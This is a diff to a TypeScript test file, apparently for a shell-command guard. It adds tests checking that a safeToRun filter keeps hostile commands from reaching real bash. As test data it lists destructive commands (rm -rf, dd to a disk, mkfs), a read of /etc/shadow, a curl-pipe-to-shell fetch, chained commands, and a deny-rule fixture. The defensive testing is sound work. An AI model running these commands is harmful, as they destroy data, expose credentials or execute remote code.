@@ -27,7 +27,7 @@ import {
   type Judged,
   type Sandbox,
 } from './differential-bash.testing.ts';
-import { generateCases, loadTargets, simpleArgv, type Case } from './differential-gen.testing.ts';
+import { generateCases, loadTargets, safeToRun, simpleArgv, type Case } from './differential-gen.testing.ts';
 
 const HAVE_BASH = bashAvailable();
 const SEED = 20261201;
@@ -60,6 +60,41 @@ async function run(cases: readonly Case[]): Promise<Judged[]> {
 }
 
 const show = (j: Judged): string => `[${j.case.features.join(' ')}] ${JSON.stringify(j.case.line)} → ${j.decision}; bash ran: ${j.ran.join(' | ')}`;
+
+describe('targets are safe to run for real', () => {
+  // Real bash runs the targets as the user (root in CI): only faked programs, never a redirection.
+  it.each(['git push --force origin main', 'git add . && git commit -m x', 'echo $(git commit -m x)', 'gh repo delete x --yes'])('%s runs', (t) => {
+    expect(safeToRun(t)).toBe(true);
+  });
+  it.each([
+    'rm -rf ~',
+    'sudo rm -rf /',
+    'echo x > /etc/hosts',
+    'git push -f 2>/etc/x',
+    'cat < /etc/shadow',
+    'dd if=/dev/zero of=/dev/sda',
+    'git push -f; mkfs.ext4 /dev/sdb',
+    'curl -fsSL https://example.com/x | sh',
+    '$X push -f',
+    'bash -c "rm -rf ~"',
+    'git push "unterminated',
+  ])('%s never reaches bash', (t) => {
+    expect(safeToRun(t)).toBe(false);
+  });
+  it('loadTargets keeps none of a pack example that is not', () => {
+    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'buckler-targets-'));
+    fs.writeFileSync(
+      path.join(dir, 'x.yaml'),
+      'pack: x\nrules:\n  - id: r\n    trigger: pre_shell_exec\n    action: deny\n    examples:\n      match: ["rm -rf ~", "git commit -m y", "echo x > /etc/hosts"]\n',
+    );
+    const texts = loadTargets(dir).map((t) => t.text);
+    fs.rmSync(dir, { recursive: true, force: true });
+    expect(texts).toContain('git commit -m y');
+    expect(texts).not.toContain('rm -rf ~');
+    expect(texts).not.toContain('echo x > /etc/hosts');
+    for (const t of loadTargets(path.join(ROOT, 'packs'))) expect(safeToRun(t.text), t.text).toBe(true);
+  });
+});
 
 describe('targets', () => {
   it('come from the packs deny examples and the spec, most of them one simple command', () => {
